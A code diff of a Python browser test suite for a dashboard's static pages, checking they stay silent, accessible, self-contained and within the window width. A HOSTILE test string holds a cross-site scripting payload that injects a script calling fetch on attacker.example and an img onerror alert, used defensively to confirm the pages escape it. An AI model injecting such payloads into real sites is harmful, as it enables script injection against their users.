@@ -1,4 +1,5 @@
-"""The report's pages in a real browser, opened from disk: silent, self-contained, accessible, no wider than the window."""
+"""The dashboard's pages and the views in a real browser, opened from disk: silent, self-contained, accessible, no wider
+than the window."""
 
 import pathlib
 import shutil
@@ -8,18 +9,18 @@ import tempfile
 import unittest
 
 from axe_playwright_python.sync_playwright import Axe
-from playwright.sync_api import sync_playwright
 
-from workspace import NOW, REPOSITORY, newsadmin, write
+from browser import BASE, PUBLIC, Browser
+from workspace import NOW, newsadmin, write
 
-PUBLIC = REPOSITORY / "public"
-BASE = "https://news.nightjar.example/feeds/"
 HOSTILE = """</title></style></script><script>fetch('https://attacker.example/')</script><img src=x onerror=alert(1)>"' {{x}}"""
 
 
 def pages(public):
-    """The overview and the campaigns' pages."""
-    return [public / "index.html", *sorted((public / "campaigns").glob("*.html"))]
+    """The dashboard's pages."""
+    return sorted(public.glob("*.html")) + sorted(
+        path for folder in ("campaigns", "schedule", "devices") for path in (public / folder).glob("*.html")
+    )
 
 
 def views(public):
@@ -27,43 +28,7 @@ def views(public):
     return sorted((public / "feeds").rglob("*.html"))
 
 
-class Browser(unittest.TestCase):
-    @classmethod
-    def setUpClass(cls):
-        chromium = shutil.which("chromium") or shutil.which("google-chrome") or shutil.which("chromium-browser")
-        cls.playwright = sync_playwright().start()
-        cls.browser = cls.playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
-
-    @classmethod
-    def tearDownClass(cls):
-        cls.browser.close()
-        cls.playwright.stop()
-
-    def open(self, path, width=1280, scheme="light"):
-        """Opens a page and returns it with what it said and asked for."""
-        context = self.browser.new_context(viewport={"width": width, "height": 800}, color_scheme=scheme)
-        self.addCleanup(context.close)
-        page = context.new_page()
-        said, asked = [], []
-        page.on("console", lambda message: said.append(message.text))
-        page.on("pageerror", lambda error: said.append(str(error)))
-        page.on("dialog", lambda dialog: (said.append("dialog"), dialog.dismiss()))
-        page.on("request", lambda request: asked.append(request.url))
-        # The images of views are addressed where the feeds will be served; here is what will be served there.
-        page.route(BASE + "**", lambda route: route.fulfill(path=PUBLIC / "feeds" / route.request.url.removeprefix(BASE)))
-        page.goto(path.as_uri())
-        return page, said, asked
-
-    def check(self, path, width=1280, scheme="light"):
-        page, said, asked = self.open(path, width, scheme)
-        self.assertEqual(said, [], path)
-        self.assertTrue(all(url.startswith(("file:", "data:", BASE + "assets/")) for url in asked), asked)
-        wide = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
-        self.assertLessEqual(wide, 0, f"{path} at {width}")
-        return page
-
-
-class Report(Browser):
+class Pages(Browser):
     def test_pages_are_silent_and_fit_the_window(self):
         for path in pages(PUBLIC):
             for width in (360, 1280):
@@ -71,7 +36,7 @@ class Report(Browser):
                     self.check(path, width)
 
     def test_axe_finds_nothing(self):
-        samples = [PUBLIC / "index.html", PUBLIC / "campaigns" / "2026-11-20-sale.html"]
+        samples = sorted(PUBLIC.glob("*.html")) + [PUBLIC / "campaigns" / "2026-11-20-sale.html"]
         for path in samples:
             for scheme in ("light", "dark"):
                 with self.subTest(path=path.name, scheme=scheme):
@@ -101,13 +66,13 @@ class Report(Browser):
         newsadmin("build", "--now", NOW, folder=folder)
         public = pathlib.Path(folder, "public")
         opened = pages(public) + views(public)
-        self.assertEqual(len(opened), 5)
+        self.assertGreaterEqual(len(opened), 8)
         for path in opened:
             with self.subTest(path=path.name):
                 page, said, asked = self.open(path)
                 self.assertEqual(said, [])
                 self.assertTrue(all(url.startswith(("file:", "data:")) for url in asked), asked)
-                self.assertIn("<script>fetch(", page.evaluate("document.body.innerText + document.title"))
+                self.assertNotIn("attacker", page.evaluate("Array.from(document.querySelectorAll('script, img, iframe'), e => e.src).join()"))
 
 
 class Views(Browser):
